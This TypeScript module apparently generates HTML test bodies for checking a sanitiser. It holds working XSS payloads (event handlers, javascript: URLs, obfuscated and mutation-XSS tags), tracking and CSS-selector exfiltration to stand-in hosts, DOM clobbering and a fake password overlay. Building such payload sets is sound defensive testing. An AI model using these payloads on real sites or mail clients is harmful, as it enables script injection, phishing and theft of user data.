/** HTML bodies that try to run, to phone home, to leave their frame, or to get through a sanitiser changed into something else. */
import { type Payload, type Targets, telling } from './payloads.ts';

type Written = readonly (readonly [name: string, html: string])[];

/** Code in every place where HTML takes code. */
function code(t: Targets): Written {
  const run = (name: string): string => telling(name, t);
  return [
    ['script', `<script>${run('script')}</script>`],
    [
      'script-outside',
      `<script src="${t.loopback}/a.js"></script><script type=module src="${t.loopback}/m.js"></script>`,
    ],
    ['script-split', `<scr<script>ipt>${run('script-split')}</scr</script>ipt>`],
    ['script-nul', `<scr\u0000ipt>${run('script-nul')}</scr\u0000ipt><script\u000c>${run('script-feed')}</script>`],
    ['image-error', `<img src=x onerror="${run('image-error')}"><img src=x:x onerror\u000b=${run('vt')}>`],
    [
      'load',
      `<body onload="${run('load-body')}"><svg onload="${run('load-svg')}"><style onload="${run('load-style')}"></style>`,
    ],
    ['media', `<video src=x onerror="${run('video')}"></video><audio src=x onerror="${run('audio')}"></audio>`],
    [
      'focus',
      `<input autofocus onfocus="${run('focus')}"><textarea autofocus onfocus="${run('focus-area')}"></textarea>`,
    ],
    ['toggle', `<details open ontoggle="${run('toggle')}"><summary>x</summary></details>`],
    [
      'animation',
      `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${run('animation')}">x</b>`,
    ],
    ['marquee', `<marquee onstart="${run('marquee')}">x</marquee>`],
    [
      'link-script',
      `<a href="javascript:${run('link-script')}">click</a><a href="java&#9;script:${run('link-tab')}">click</a>`,
    ],
    ['link-odd', `<a href=" &#14; javascript:${run('link-odd')}">click</a><a href="vbscript:msgbox(1)">click</a>`],
    ['link-data', `<a href="data:text/html,<script>${run('link-data')}</script>">click</a>`],
    [
      'frame-script',
      `<iframe src="javascript:${run('frame-script')}"></iframe><iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>`,
    ],
    [
      'object',
      `<object data="data:text/html,<script>${run('object')}</script>"></object><embed src="javascript:${run('embed')}">`,
    ],
    [
      'svg',
      `<svg><script>${run('svg-script')}</script><a xlink:href="javascript:${run('svg-link')}"><text y=20>click</text></a></svg>`,
    ],
    [
      'svg-animate',
      `<svg><a><animate attributeName=href values="javascript:${run('animate')}"/><text y=20>click</text></a></svg>`,
    ],
    ['svg-foreign', `<svg><foreignObject><img src=x onerror="${run('foreign')}"></foreignObject></svg>`],
    [
      'math',
      `<math href="javascript:${run('math')}">click</math><math><maction xlink:href="javascript:${run('maction')}">x</maction></math>`,
    ],
    [
      'form-script',
      `<form action="javascript:${run('form-script')}"><button>send</button></form><button formaction="javascript:1">x</button>`,
    ],
    ['refresh-script', `<meta http-equiv=refresh content="0;url=javascript:${run('refresh-script')}">`],
  ];
}

/** What asks somebody outside without any code: that alone tells who read the mail, when and where. */
function asking(t: Targets): Written {
  const [one, two] = [t.name, t.loopback];
  return [
    [
      'pixel',
      `<img src="${one}/pixel.gif" width=1 height=1><img src="${two}/pixel.gif"><img src="//tracker.example/x">`,
    ],
    [
      'pixel-set',
      `<img srcset="${two}/a 1x, ${two}/b 2x"><picture><source srcset="${two}/c"><img src="${two}/d" loading=lazy></picture>`,
    ],
    [
      'background',
      `<table background="${two}/table"><tr><td background="${two}/cell">x</table><body background="${two}/body">`,
    ],
    [
      'poster',
      `<video poster="${two}/poster" src="${two}/film" autoplay></video><audio src="${two}/sound" autoplay></audio>`,
    ],
    ['track', `<video><track default src="${two}/track"></video><input type=image src="${two}/button">`],
    [
      'sheet',
      `<link rel=stylesheet href="${two}/sheet.css"><link rel=icon href="${two}/icon"><link rel=manifest href="${two}/m">`,
    ],
    [
      'ahead',
      `<link rel=dns-prefetch href="//early.example"><link rel=preconnect href="${two}"><link rel=prefetch href="${two}/next">`,
    ],
    ['preload', `<link rel=preload as=image href="${two}/preload"><link rel=modulepreload href="${two}/module.js">`],
    ['import', `<style>@import url(${two}/import.css);@import "${one}/import.css";</style>`],
    [
      'style-url',
      `<style>body{background:url(${two}/bg)}li{list-style-image:url(${two}/li)}b{cursor:url(${two}/cur),auto}</style><li><b>x</b>`,
    ],
    [
      'style-attribute',
      `<p style="background-image:url('${two}/attr')">x</p><p style="background:image-set('${two}/set' 1x)">x</p>`,
    ],
    [
      'style-escaped',
      `<p style="background:\\75\\72\\6c(${two}/escaped)">x</p><p style="b\\61ckground:u/**/rl(${two}/comment)">x</p>`,
    ],
    ['font', `<style>@font-face{font-family:f;src:url(${two}/font)}p{font-family:f}</style><p>x</p>`],
    [
      'exfiltration',
      `<style>input[value^="a"]{background:url(${two}/starts-a)}a[href*="token"]{background:url(${two}/token)}</style><input value=abc>`,
    ],
    [
      'svg-use',
      `<svg><use href="${two}/use.svg#x"/><image href="${two}/svg-image"/><filter><feImage href="${two}/fe"/></filter></svg>`,
    ],
    ['frame', `<iframe src="${two}/frame"></iframe><object data="${two}/object"></object><embed src="${two}/embed">`],
    ['frameset', `</body><frameset><frame src="${two}/frameset"></frameset>`],
    ['refresh', `<meta http-equiv=refresh content="0;url=${two}/refresh"><meta http-equiv="Set-Cookie" content="a=b">`],
    ['base', `<base href="${two}/"><img src=relative.png><a href=relative>click</a>`],
    ['form', `<form action="${two}/form" method=post><input name=q value=1 autofocus><button>send</button></form>`],
    [
      'ping',
      `<a href="${two}/link" ping="${two}/ping" target=_top>click</a><a href="${one}/top" target=_blank>click</a>`,
    ],
    [
      'inline-svg',
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${two}/data-svg'/></svg>">`,
    ],
    ['report', `<meta http-equiv="Content-Security-Policy" content="default-src 'self'; report-uri ${two}/report">`],
  ];
}

/**
 * What a sanitiser may read otherwise than the browser that gets its output: namespaces that change how text is read, elements
 * that end elsewhere, and names that stand for something else in a document.
 */
function changing(t: Targets): Written {
  const image = (name: string): string => `<img src=x onerror="${telling(name, t)}">`;
  return [
    [
      'mutation-table',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image('mutation-table').replaceAll('"', '&quot;')}">`,
    ],
    ['mutation-form', `<form><math><mtext></form><form><mglyph><style></math>${image('mutation-form')}`],
    ['mutation-svg', `<svg></p><style><a id="</style>${image('mutation-svg').replaceAll('"', "'")}">`],
    ['mutation-noscript', `<noscript><p title="</noscript>${image('mutation-noscript').replaceAll('"', "'")}">`],
    ['mutation-template', `<template><div><style><template></style>${image('mutation-template')}</template>`],
    ['raw-text', `<xmp><p title="</xmp>${image('xmp').replaceAll('"', "'")}">`],
    ['raw-title', `<title><p title="</title>${image('title').replaceAll('"', "'")}">`],
    ['raw-area', `<textarea><p title="</textarea>${image('textarea').replaceAll('"', "'")}">`],
    [
      'comment',
      `<!--><img src=x onerror=${telling('comment', t).replaceAll(' ', '+')}>--><!--->${image('comment-two')}`,
    ],
    ['cdata', `<svg><![CDATA[><image xlink:href="]]>${image('cdata')}"></svg>`],
    ['conditional', `<!--[if gte IE 4]><script>${telling('conditional', t)}</script><![endif]-->`],
    [
      'clobber',
      '<form id=app><input name=attributes></form><img name=body><a id=document></a><a id=location href=x></a>',
    ],
    [
      'overlay',
      '<div style="position:fixed;inset:0;z-index:99999;background:#fff">You were signed out. <input type=password></div>',
    ],
    ['plaintext', `<plaintext>${image('plaintext')}`],
    ['deep', `${'<div><b><i>'.repeat(4000)}deep`],
    ['utf-7', `+ADw-script+AD4-${telling('utf-7', t)}+ADw-/script+AD4-`],
  ];
}

/** Every HTML body, by name. */
export function bodies(targets: Targets): Payload[] {
  return [...code(targets), ...asking(targets), ...changing(targets)].map(([name, text]) => ({ name, text }));
}
